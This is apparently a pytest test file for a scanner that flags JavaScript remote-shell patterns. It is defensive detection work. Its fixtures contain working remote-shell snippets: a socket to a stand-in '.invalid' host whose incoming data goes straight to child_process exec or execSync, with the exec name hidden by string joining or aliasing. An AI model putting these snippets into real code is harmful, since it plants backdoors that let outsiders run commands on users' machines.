"""A function of another module, walked when this file hands it data, calls what its module's top
level took from a module it required (``const run = cp.exec``, ``cp[['ex', 'ec'].join('')]``,
``const { execSync: go } = cp``): those names are declared with its requires, so a command a
connection sends still reaches the shell. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

_MAIN = (
    "const net = require('net');\n"
    "const { onLine } = require('./worker');\n"
    "const sock = net.connect({ host: 'fleet.ops-hub.invalid', port: 7443 });\n"
    "sock.on('data', d => onLine(JSON.parse(d), out => sock.write(String(out))));\n"
)


@pytest.mark.parametrize(
    ("worker", "line"),
    [
        (
            "const cp = require('child_process');\n"
            "const launch = cp[['ex', 'ec'].join('')];\n"
            "function onLine(m, send) {\n"
            "  if (m.kind === 'probe') return launch(m.text || 'uptime', (e, o) => send(o));\n"
            "}\n"
            "module.exports = { onLine };\n",
            4,
        ),
        (
            "const proc = require('child_process');\n"
            "const { execSync: go } = proc;\n"
            "exports.onLine = (m, send) => send(go(m.text));\n",
            3,
        ),
    ],
)
def test_a_shell_taken_at_top_level_of_a_handed_module_runs_what_the_connection_sends(
    tmp_path: Path, worker: str, line: int
) -> None:
    errors = scan_errors(tmp_path, {"agent/main.js": _MAIN, "agent/worker.js": worker})
    assert ("REMOTE_SHELL", "agent/worker.js", line) in errors


def test_a_fixed_command_taken_the_same_way_stays_clean(tmp_path: Path) -> None:
    worker = (
        "const cp = require('child_process');\n"
        "const launch = cp.execFile;\n"
        "function onLine(m, send) {\n"
        "  if (m.kind === 'probe') return launch('uptime', [], (e, o) => send(o));\n"
        "}\n"
        "module.exports = { onLine };\n"
    )
    errors = scan_errors(tmp_path, {"agent/main.js": _MAIN, "agent/worker.js": worker})
    assert not {e for e in errors if e[0] in ("REMOTE_SHELL", "DOWNLOAD_AND_RUN")}
